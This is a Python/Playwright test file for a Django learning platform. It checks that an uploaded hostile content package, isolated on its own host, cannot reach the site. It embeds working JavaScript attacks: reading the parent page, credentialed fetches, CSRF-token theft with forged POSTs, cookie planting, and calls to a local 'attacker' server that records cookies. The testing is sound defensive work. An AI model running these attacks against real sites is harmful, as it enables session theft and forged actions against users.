"""A hostile package in the player tries the attacks of the security reference, 1.2; the control lets it succeed on the site's own host."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from csp.decorators import csp_exempt
from django.conf import settings as django_settings
from django.contrib.auth.decorators import login_not_required
from django.http import HttpResponse
from django.urls import include, path
from django.views.decorators.clickjacking import xframe_options_exempt
from playwright.sync_api import Page

from config.checks import check_content_origin
from learning.assignments.models import Assignment
from learning.packages.content_headers import POLICY
from tests.factories.learning import give, make_module
from tests.factories.packages import keep_package, module_of

ATTACKS = """<!doctype html><html lang="en"><head><title>Hostile</title></head><body><h1>Hostile</h1><script>
const APP = "%(app)s", ELSEWHERE = "%(elsewhere)s";
const tried = {};
async function attempt(name, act) { try { tried[name] = (await act()) === true; } catch { tried[name] = false; } }
(async () => {
  await attempt("reads the parent page", () => top.document.body.textContent.includes("Rita"));
  await attempt("reads as its viewer", async () => (await (await fetch(APP + "/learn/", {credentials: "include"})).text()).includes("Secret module"));
  await attempt("acts as its viewer", async () => {
    const page = await (await fetch(APP + "/learn/modules/%(module)s/", {credentials: "include"})).text();
    const token = new DOMParser().parseFromString(page, "text/html").querySelector("[name=csrfmiddlewaretoken]").value;
    const body = new URLSearchParams({csrfmiddlewaretoken: token});
    return (await fetch(APP + "/learn/modules/%(module)s/choose/", {method: "POST", credentials: "include", body})).ok;
  });
  const post = () => fetch(APP + "/learn/modules/%(module)s/choose/", {method: "POST", mode: "no-cors", credentials: "include"});
  await attempt("posts blindly", async () => { await post(); return true; });
  await attempt("plants cookies", () => { document.cookie = "planted=1; path=/"; return document.cookie.includes("planted"); });
  await attempt("reads the storage of the site", () => localStorage.getItem("site") === "kept");
  await attempt("sends to another host", async () => { await fetch(ELSEWHERE + "/fetched", {mode: "no-cors"}); return true; });
  await attempt("loads from another host", () => new Promise((done) => {
    const image = new Image(); image.onload = () => done(true); image.onerror = () => done(false); image.src = ELSEWHERE + "/image.svg";
  }));
  await attempt("keeps a service worker", async () => Boolean(await navigator.serviceWorker.register("worker.js")));
  await attempt("leads the whole window away", () => { top.location.href = ELSEWHERE + "/away"; return false; });
  document.body.dataset.tried = JSON.stringify(tried);
})();
</script></body></html>"""
EXPECTED_OF_THE_CONTROL = {
    "reads the parent page", "reads as its viewer", "acts as its viewer", "posts blindly", "plants cookies",
    "reads the storage of the site", "sends to another host", "loads from another host",
}  # fmt: skip


@pytest.fixture
def elsewhere():
    """A server of the attacker's: what it was asked for, with the cookies that came along."""

    class Takes(BaseHTTPRequestHandler):
        def do_GET(self):
            server.asked.append((self.path, self.headers.get("Cookie", "")))
            self.send_response(200)
            self.send_header("Content-Type", "image/svg+xml")
            self.end_headers()
            self.wfile.write(b'<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>')

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Takes)
    server.asked = []
    server.url = f"http://127.0.0.1:{server.server_address[1]}"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def other_port(elsewhere):
    """The second control: the page on the site's own host name under another port, with the policy of the content host."""

    class Hostile(BaseHTTPRequestHandler):
        def do_GET(self):
            server.cookies.append(self.headers.get("Cookie", ""))
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Security-Policy", POLICY.format(app="*"))
            self.end_headers()
            self.wfile.write(server.page.encode())

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
    server.page, server.cookies = "", []
    server.url = f"http://localhost:{server.server_address[1]}/part1.html"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


class OnTheSite:
    """The control: the same page on the site's own host, in a plain frame, as systems without a second host do it."""

    page = ""
    address = "/planted/hostile/"

    @staticmethod
    @login_not_required
    @csp_exempt()
    @xframe_options_exempt
    def hostile(request):
        return HttpResponse(OnTheSite.page)

    @staticmethod
    @csp_exempt()
    def frame(request):
        return HttpResponse(
            f'<h1>{request.user}</h1><iframe id="package" sandbox="allow-scripts allow-same-origin" src="{OnTheSite.address}"></iframe>'
        )


urlpatterns = [
    path("planted/hostile/", OnTheSite.hostile),
    path("planted/", OnTheSite.frame),
    path("", include(django_settings.ROOT_URLCONF)),
]


def outcome(page: Page, ending: str) -> dict[str, bool]:
    page.wait_for_function("() => true")
    for _try in range(100):
        frame = next((one for one in page.frames if one.url.endswith(ending)), None)
        tried = frame.evaluate("document.body && document.body.dataset.tried") if frame else None
        if tried:
            return json.loads(tried)
        page.wait_for_timeout(100)
    raise AssertionError("the hostile page never came to its end")


def test_a_hostile_package_reaches_nothing(cast, now, live_server, settings, tmp_path, open_as, context, elsewhere):
    settings.CONTENT_ORIGIN = live_server.url.replace("localhost", "127.0.0.1")
    settings.PACKAGE_ROOT = tmp_path / "packages"
    settings.ROOT_URLCONF = __name__
    give(cast.rita, make_module(now, "Secret module"), now)
    wanted = make_module(now, "Never chosen")
    OnTheSite.page = ATTACKS % {"app": live_server.url, "elsewhere": elsewhere.url, "module": wanted.pk}
    package = keep_package(now, files={"part1.html": OnTheSite.page, "worker.js": "self.addEventListener('fetch', () => {});"})
    assignment = give(cast.rita, module_of(package, now), now)
    page = open_as(cast.rita)
    page.goto(f"{live_server.url}/learn/assignments/{assignment.pk}/")
    page.evaluate("localStorage.setItem('site', 'kept')")
    page.get_by_role("button", name="Start").click()
    sent: list[str] = []
    page.on(
        "request", lambda request: sent.append(request.all_headers().get("cookie", "")) if "127.0.0.1" in request.url else None
    )
    page.get_by_role("button", name="Open the package").click()
    tried = outcome(page, "/part1.html")
    assert len(tried) == 10
    # Of its own host's cookies it may make what it likes: the site never gets them.
    tried.pop("plants cookies")
    assert [name for name, worked in tried.items() if worked] == []
    assert page.url.startswith(live_server.url)
    assert elsewhere.asked == []
    assert not any("session" in cookies for cookies in sent)
    assert not any(cookie["name"] == "planted" and cookie["domain"] == "localhost" for cookie in context.cookies())
    assert not Assignment.objects.filter(module=wanted).exists()

    page.goto(f"{live_server.url}/planted/")
    tried = outcome(page, "/hostile/")
    assert {name for name, worked in tried.items() if worked} >= EXPECTED_OF_THE_CONTROL
    assert Assignment.objects.filter(module=wanted, person=cast.rita).exists()
    assert {path for path, _cookie in elsewhere.asked} >= {"/fetched", "/image.svg"}


def test_another_port_of_the_same_host_does_not_keep_cookies_apart(
    cast, now, live_server, settings, open_as, context, elsewhere, other_port, monkeypatch
):
    """Why CONTENT_ORIGIN may not be the site's own name on another port: the attacks on cookies succeed there."""
    settings.ROOT_URLCONF = __name__
    wanted = make_module(now, "Never chosen")
    other_port.page = ATTACKS % {"app": live_server.url, "elsewhere": elsewhere.url, "module": wanted.pk}
    monkeypatch.setattr(OnTheSite, "address", other_port.url)
    page = open_as(cast.rita)
    page.goto(f"{live_server.url}/planted/")
    tried = outcome(page, "/part1.html")
    assert tried["plants cookies"] is True
    assert any(cookie["name"] == "planted" and cookie["domain"] == "localhost" for cookie in context.cookies())
    assert any("session" in cookies for cookies in other_port.cookies), "it is even sent the session"
    assert not tried["reads as its viewer"]
    settings.CONTENT_ORIGIN = other_port.url.removesuffix("/part1.html")
    settings.BASE_URL = live_server.url
    assert [found.id for found in check_content_origin()] == ["uncommon.E010"]
